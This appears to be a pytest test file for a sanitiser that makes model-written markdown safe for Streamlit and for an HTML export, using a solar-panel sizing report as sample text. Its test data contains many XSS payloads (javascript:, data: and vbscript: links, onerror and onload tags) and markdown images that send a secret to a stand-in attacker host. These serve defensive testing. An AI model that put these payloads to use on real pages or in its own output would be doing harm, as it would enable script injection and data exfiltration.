"""studio/records/render.py: hostile model output made safe for st.markdown and the HTML
download."""

from __future__ import annotations

import itertools
import re
from typing import Any

import pytest
from markdown_it import MarkdownIt

from studio.records.render import (
    CURSOR,
    RepaintThrottle,
    dashes,
    html_document,
    is_safe_url,
    markdown_to_safe_html,
    safe_markdown,
    split_blocks,
    with_cursor,
)

# A realistic PV sizing report, as in ../shared/seed/llm-backends.md (San Diego sample).
PV_REPORT = """## RECOMMENDATION FOR PV PANEL INSTALLATION

### KEY TRENDS AND SEASONAL PATTERNS
*   The household's electricity consumption is relatively stable
    throughout the year (Winter/Summer ratio: 0.94)
*   Average daily consumption: 53.76 kWh
*   Peak weekly max load: 7.79 kW

### PV PANEL SIZING
*   To offset 100% of consumption: ~128 panels needed
*   With EV charging load: ~150 panels
*   Budget-constrained maximum: 31 panels ($15,000 budget)

### PAYBACK PERIOD AND ROI
*   Break-even: ~10.03 years (budget-constrained)
*   ROI (25 yr): 132.15%
*   Expected annual savings: $1,480.42

### RISKS AND CAVEATS
*   Nighttime load ratio: 70.23%
*   Sunlight consistency CV: 0.3141
*   Battery storage may be advisable
"""

UNSAFE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "java\\script:alert(1)",
    "<javascript:alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//attacker.example/x",
    "attacker.example",
    "",
]


def _no_image_syntax(text: str) -> bool:
    return "![" not in text


# -- is_safe_url -----------------------------------------------------------------------------
@pytest.mark.parametrize("url", ["https://example.com/a_(b)", "http://localhost:8501/x",
                                 "HTTPS://EXAMPLE.COM", "mailto:a@b.c", "#anchor",
                                 "<https://example.com/a b>", "  https://example.com  "])
def test_is_safe_url_accepts_http_https_mailto_and_anchors(url: str) -> None:
    assert is_safe_url(url)


@pytest.mark.parametrize("url", UNSAFE_URLS)
def test_is_safe_url_rejects_other_schemes_and_obfuscations(url: str) -> None:
    assert not is_safe_url(url)


# -- safe_markdown: links ------------------------------------------------------------------
@pytest.mark.parametrize("url", [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "&#x6A;avascript:alert(1)",
    "java\\script:alert(1)",
    "<java\tscript:alert(1)>",
    "<javascript:alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "javascript:alert(1) \"a title\"",
    "\njavascript:alert(1)\n",
])
def test_unsafe_inline_link_loses_its_target(url: str) -> None:
    out = safe_markdown(f"See [click here]({url}) for details.")
    assert out == "See click here (link removed) for details."


def test_classic_javascript_link() -> None:
    assert safe_markdown("[click](javascript:alert(1))") == "click (link removed)"


@pytest.mark.parametrize("text", [
    "[a](https://example.com/a_(b))",
    "[mail](mailto:a@b.c)",
    "[jump](#anchor)",
    "[t](https://example.com/x \"Title\")",
    "[b](<https://example.com/a b>)",
    "<https://example.com/path?q=1>",
])
def test_safe_links_are_kept_exactly(text: str) -> None:
    assert safe_markdown(text) == text


def test_several_links_on_a_line_are_judged_one_by_one() -> None:
    text = "[ok](https://nrel.gov) then [bad](javascript:alert(1)) then [ok2](mailto:x@y.z)"
    assert safe_markdown(text) == ("[ok](https://nrel.gov) then bad (link removed) "
                                   "then [ok2](mailto:x@y.z)")


@pytest.mark.parametrize("autolink", ["<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>",
                                      "<data:text/html,hi>", "<vbscript:msgbox(1)>"])
def test_unsafe_autolink_is_disarmed(autolink: str) -> None:
    out = safe_markdown(f"Go {autolink} now")
    assert out == f"Go {autolink[1:-1]} (link removed) now"
    assert "<" not in out


@pytest.mark.parametrize("definition", ["[r]: javascript:alert(1)", "[r]: <javascript:alert(1)>",
                                        "[r]: JavaScript&#58;alert(1) \"t\"",
                                        "[r]: data:text/html,hi", "   [r]: vbscript:x"])
def test_unsafe_reference_definition_points_nowhere(definition: str) -> None:
    out = safe_markdown(f"Read [this][r].\n\n{definition}\n")
    prefix = definition[:definition.index(":") + 1]
    assert out == f"Read [this][r].\n\n{prefix} #link-removed\n"


def test_safe_reference_definition_is_kept() -> None:
    text = "Read [NREL][r].\n\n[r]: https://pvwatts.nrel.gov \"PVWatts\"\n"
    assert safe_markdown(text) == text


# -- safe_markdown: images -------------------------------------------------------------------
def test_exfiltration_image_becomes_a_plain_link() -> None:
    out = safe_markdown("Done. ![](https://attacker.example/leak?q=SECRET)")
    assert _no_image_syntax(out)
    assert out == "Done. [🖼 image](https://attacker.example/leak?q=SECRET)"


def test_image_keeps_its_alt_text_and_title() -> None:
    out = safe_markdown("![roof layout](https://example.com/roof.png 'Roof')")
    assert out == "[🖼 roof layout](https://example.com/roof.png 'Roof')"


def test_image_with_unsafe_url_loses_its_target() -> None:
    out = safe_markdown("![x](data:image/svg+xml;base64,PHN2Zz4=)")
    assert out == "🖼 x (link removed)"


def test_reference_style_image_becomes_a_reference_link() -> None:
    text = "Chart: ![x][r]\n\n[r]: https://attacker.example/a.png\n"
    out = safe_markdown(text)
    assert _no_image_syntax(out)
    assert out == "Chart: [🖼 x][r]\n\n[r]: https://attacker.example/a.png\n"


@pytest.mark.parametrize("text", ["![x]\n\n[x]: https://attacker.example/a.png",
                                  "![x][]\n\n[x]: https://attacker.example/a.png",
                                  "- ![x](https://attacker.example/a.png)",
                                  "> ![x](https://attacker.example/a.png)",
                                  "![x](\nhttps://attacker.example/a.png\n)"])
def test_no_image_syntax_survives(text: str) -> None:
    assert _no_image_syntax(safe_markdown(text))


def test_raw_html_is_left_for_st_markdown_to_escape() -> None:
    # st.markdown escapes raw HTML itself; safe_markdown must not mangle it into markdown.
    text = "<script>alert(1)</script> and <img src=x onerror=alert(1)>"
    assert safe_markdown(text) == text


# -- safe_markdown: code is untouched --------------------------------------------------------
def test_links_in_fenced_code_are_unchanged() -> None:
    text = ("Example:\n\n```markdown\n[x](javascript:alert(1))\n![i](https://a.example/i.png)\n"
            "cost = $5\n```\n\nAfter [bad](javascript:1) costs $5")
    out = safe_markdown(text)
    assert out.startswith("Example:\n\n```markdown\n[x](javascript:alert(1))\n"
                          "![i](https://a.example/i.png)\ncost = $5\n```")
    assert out.endswith("After bad (link removed) costs \\$5")


def test_tilde_fence_and_longer_fence_are_code() -> None:
    text = "~~~\n[x](javascript:1)\n~~~\n````\n```\n[y](javascript:2)\n````\n[z](javascript:3)"
    assert safe_markdown(text) == ("~~~\n[x](javascript:1)\n~~~\n````\n```\n[y](javascript:2)\n"
                                   "````\nz (link removed)")


def test_links_in_inline_code_are_unchanged() -> None:
    text = "Write `[x](javascript:alert(1))` or ``a ` $b``, but not [y](javascript:2) $3"
    assert safe_markdown(text) == ("Write `[x](javascript:alert(1))` or ``a ` $b``, "
                                   "but not y (link removed) \\$3")


def test_unclosed_fence_while_streaming_stays_code() -> None:
    partial = "Sizing:\n\n```python\npanels = budget / 480  # $ per panel\n[x](javascript:1)"
    assert safe_markdown(partial) == partial
    assert with_cursor(partial) == partial + CURSOR


# -- safe_markdown: dollars ------------------------------------------------------------------
@pytest.mark.parametrize(("text", "expected"), [
    ("$15,000", "\\$15,000"),
    ("\\$15,000", "\\$15,000"),
    ("between $1,480.42 and $2,000", "between \\$1,480.42 and \\$2,000"),
    ("$$", "\\$\\$"),
    ("no money", "no money"),
])
def test_dollars_are_escaped_once(text: str, expected: str) -> None:
    assert safe_markdown(text) == expected


def test_safe_markdown_is_idempotent_on_a_hostile_answer() -> None:
    text = "[a](javascript:1) ![b](https://x.example/b.png) $5 <data:x,y>"
    once = safe_markdown(text)
    assert safe_markdown(once) == once


# -- safe_markdown: a real report ------------------------------------------------------------
def test_pv_report_passes_through_with_only_dollars_escaped() -> None:
    out = safe_markdown(PV_REPORT)
    assert out == PV_REPORT.replace("$", "\\$")
    for line in ("## RECOMMENDATION FOR PV PANEL INSTALLATION", "### PV PANEL SIZING",
                 "*   Average daily consumption: 53.76 kWh", "*   ROI (25 yr): 132.15%",
                 "*   Budget-constrained maximum: 31 panels (\\$15,000 budget)",
                 "*   Expected annual savings: \\$1,480.42"):
        assert line in out.splitlines()


def test_with_cursor_appends_the_cursor_to_safe_text() -> None:
    assert with_cursor("[a](javascript:1) $5") == "a (link removed) \\$5" + CURSOR
    assert with_cursor("") == CURSOR


# -- safe_markdown: syntax a simple pattern would misjudge ----------------------------------
# Each input is read by CommonMark (Streamlit's renderer follows it) as an image or an unsafe
# link. Whatever safe_markdown makes of it, a CommonMark parser must find neither.
def _commonmark_links_and_images(text: str) -> list[tuple[str, str]]:
    parser = MarkdownIt("commonmark")
    # markdown-it-py's documented way to accept every link is to override validateLink on the
    # instance, which mypy's method-assign check refuses.
    parser.validateLink = lambda url: True  # type: ignore[method-assign]  # see every link
    found = []
    for block in parser.parse(text):
        for token in block.children or ():
            if token.type == "image":
                found.append(("image", str(token.attrGet("src"))))
            elif token.type == "link_open":
                found.append(("link", str(token.attrGet("href"))))
    return found


TRICKY = [
    "![chart [kWh]](https://attacker.example/leak?q=SECRET)",
    "![[x]](https://attacker.example/leak?q=SECRET)",
    "[[click]](javascript:alert(1))",
    "[see [1] here](data:text/html,hi)",
    "[x](javascript:alert((1)))",
    "[x](data:text/html,((a)))",
    "[x](javascript:alert(1) 'it\\'s')",
    "[x][r]\n\n[r]:\njavascript:alert(1)\n",
    "[x][r]\n\n[r]:\n  data:text/html,hi\n",
    "> [x][r]\n>\n> [r]: javascript:alert(1)\n",
    "``[x](javascript:alert(1))`",  # a run of 2 backticks is not closed by a run of 1
    "`[x](javascript:alert(1))``",  # ... nor a run of 1 by a run of 2
    "Use ` to quote.\n\n[x](javascript:alert(1)) and `code`",  # spans never cross paragraphs
    "```js`\n[x](javascript:alert(1))\n",  # a backtick fence's info may not contain a backtick
    "```\nx\n``` y\n```\n[x](javascript:alert(1))\n```\n",  # a closing fence has no info
    "[x](\njavascript:alert(1)\n)",
    "[x](<javascript:alert(1)>)",
]


@pytest.mark.parametrize("text", TRICKY)
def test_commonmark_finds_no_image_and_no_unsafe_link(text: str) -> None:
    assert _commonmark_links_and_images(text), "the input itself should hold a link or image"
    found = _commonmark_links_and_images(safe_markdown(text))
    assert all(kind == "link" and is_safe_url(url) for kind, url in found), found


def test_disarmed_link_text_stays_readable() -> None:
    out = safe_markdown("[[click]](javascript:alert(1)) then more")
    assert "click" in out and "then more" in out


# -- markdown_to_safe_html -------------------------------------------------------------------
HOSTILE = """# Report

<script>alert(1)</script>
<img src=x onerror=alert(1)>
<a href="javascript:alert(1)">a</a> <a href="java&#9;script:alert(1)">b</a>
<a href='data:text/html,<script>alert(1)</script>'>c</a>
<a href="https://example.com" onmouseover="alert(1)">d</a>
<div onclick="alert(1)" style="x">e</div>
<svg onload=alert(1)><script>alert(2)</script></svg>
<iframe src="https://attacker.example"></iframe>
<style>body { display: none }</style>

[click](javascript:alert(1)) [v](vbscript:msgbox(1))
[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![](https://attacker.example/leak?q=SECRET)
![x][r] ![[y]](https://attacker.example/nested.png) ![z](data:image/png;base64,AAAA)

[r]: https://attacker.example/a.png
"""


def _assert_no_active_content(page: str) -> None:
    lowered = page.lower()
    for needle in ("<script", "onerror", "onload", "onclick", "onmouseover", "javascript:",
                   "vbscript:", "data:", "<img", "<iframe", "<svg", "<style>body"):
        assert needle not in lowered, needle


def test_html_fragment_has_no_active_content() -> None:
    html = markdown_to_safe_html(HOSTILE)
    _assert_no_active_content(html)
    assert "<h1>Report</h1>" in html


def test_html_every_link_is_http_https_mailto_or_anchor_and_nofollow() -> None:
    html = markdown_to_safe_html(HOSTILE + "\n[ok](https://example.com/a_(b)) [m](mailto:a@b.c)")
    anchors = re.findall(r"<a\b[^>]*>", html)
    assert anchors
    for anchor in anchors:
        assert 'rel="noopener noreferrer nofollow"' in anchor
        href = re.search(r'href="([^"]*)"', anchor)
        if href:
            assert is_safe_url(href.group(1)), anchor
    assert 'href="https://example.com/a_(b)"' in html
    assert 'href="mailto:a@b.c"' in html


def test_html_unsafe_autolink_is_text_not_a_link() -> None:
    html = markdown_to_safe_html("Go <javascript:alert(1)> now")
    assert html == "<p>Go javascript:alert(1) (link removed) now</p>"
    assert "href" not in html


def test_html_exfiltration_image_is_a_link_not_an_img() -> None:
    html = markdown_to_safe_html("![](https://attacker.example/leak?q=SECRET)")
    assert "<img" not in html
    assert ('<a href="https://attacker.example/leak?q=SECRET" '
            'rel="noopener noreferrer nofollow">🖼 image</a>') in html


def test_html_code_blocks_are_escaped_text() -> None:
    html = markdown_to_safe_html("```\n<script>alert(1)</script> [x](javascript:1)\n```")
    assert "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script" not in html


def test_html_renders_tables_lists_and_dollars() -> None:
    table = "| Item | Cost |\n|---|---:|\n| Panels | $15,000 |\n"
    html = markdown_to_safe_html(PV_REPORT + "\n" + table)
    assert "<h2>RECOMMENDATION FOR PV PANEL INSTALLATION</h2>" in html
    assert "<li>Average daily consumption: 53.76 kWh</li>" in html
    assert "<table>" in html and "<th>Item</th>" in html
    assert re.search(r'<td[^>]*>\$15,000</td>', html)
    assert "$1,480.42" in html and "\\$" not in html


# -- html_document ---------------------------------------------------------------------------
def test_html_document_is_a_locked_down_page() -> None:
    page = html_document(PV_REPORT, "San Diego report", "llama3.1:8b · 2025-06-27")
    assert page.startswith("<!DOCTYPE html>")
    assert ('<meta http-equiv="Content-Security-Policy"\n'
            "      content=\"default-src 'none'; style-src 'unsafe-inline'\">") in page
    assert "<title>San Diego report</title>" in page
    assert "<p>llama3.1:8b · 2025-06-27</p>" in page
    assert "<h3>PV PANEL SIZING</h3>" in page
    assert page.rstrip().endswith("</html>")


def test_html_document_escapes_title_and_subtitle() -> None:
    page = html_document("body", "<b>Bold</b> & <script>x</script>", "<img src=x onerror=y>")
    assert "<title>&lt;b&gt;Bold&lt;/b&gt; &amp; &lt;script&gt;x&lt;/script&gt;</title>" in page
    assert "<h1>&lt;b&gt;Bold&lt;/b&gt;" in page
    assert "<p>&lt;img src=x onerror=y&gt;</p>" in page
    assert "<b>" not in page and "<script" not in page and "<img" not in page


def test_html_document_of_a_hostile_answer_has_no_active_content() -> None:
    _assert_no_active_content(html_document(HOSTILE, "t", "s"))


# -- RepaintThrottle ------------------------------------------------------------------------
class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_throttle_first_call_is_due_then_once_per_interval() -> None:
    clock = FakeClock()
    throttle = RepaintThrottle(0.5, clock)
    assert throttle.due()
    assert not throttle.due()
    clock.now += 0.49
    assert not throttle.due()
    clock.now += 0.01
    assert throttle.due()
    assert not throttle.due()


def test_throttle_is_due_at_most_once_per_interval_over_many_polls() -> None:
    clock = FakeClock()
    throttle = RepaintThrottle(0.1, clock)
    due_times = []
    for _ in range(1000):  # 1000 polls over 1 s
        if throttle.due():
            due_times.append(clock.now)
        clock.now += 0.001
    gaps = [b - a for a, b in itertools.pairwise(due_times)]
    assert 9 <= len(due_times) <= 11
    assert all(gap >= 0.1 - 1e-9 for gap in gaps)


def test_throttle_interval_counts_from_the_last_due_not_the_last_poll() -> None:
    clock = FakeClock()
    throttle = RepaintThrottle(1.0, clock)
    assert throttle.due()
    for step in (0.3, 0.6, 0.9):
        clock.now = 1000.0 + step
        assert not throttle.due()
    clock.now = 1001.0  # 1 s after the last due; the polls in between did not push it back
    assert throttle.due()


def test_throttle_with_zero_interval_is_always_due() -> None:
    throttle = RepaintThrottle(0.0, FakeClock())
    assert all(throttle.due() for _ in range(5))


# -- split_blocks: the pieces a growing answer is painted in -------------------------------------
def test_split_blocks_cuts_at_blank_lines_but_never_inside_code() -> None:
    text = "# A\n\npara 1\nline\n\n\n```\ncode\n\nmore\n```\n\n- a\n- b"
    assert split_blocks(text) == ["# A", "para 1\nline", "```\ncode\n\nmore\n```", "- a\n- b"]


def test_split_blocks_keeps_an_unclosed_fence_whole_while_it_streams() -> None:
    assert split_blocks("intro\n\n~~~\nx\n\ny") == ["intro", "~~~\nx\n\ny"]


def test_split_blocks_of_nothing_is_one_empty_block() -> None:
    assert split_blocks("") == [""]
    assert "\n\n".join(split_blocks("a\n\nb\n\nc")) == "a\n\nb\n\nc"


def test_tables_show_a_dash_for_a_missing_figure_and_drop_empty_optional_columns() -> None:
    rows: list[dict[str, Any]] = [{"n": 1, "seconds": None, "thinking": None, "note": ""},
            {"n": 2, "seconds": 0.5, "thinking": None, "note": "cut"}]
    shown = dashes(rows, optional=("thinking", "note"))
    assert shown == [{"n": 1, "seconds": "–", "note": ""},
                     {"n": 2, "seconds": "0.5", "note": "cut"}]  # one type per column
    assert dashes(rows, optional=("seconds",))[1]["seconds"] == "0.5"
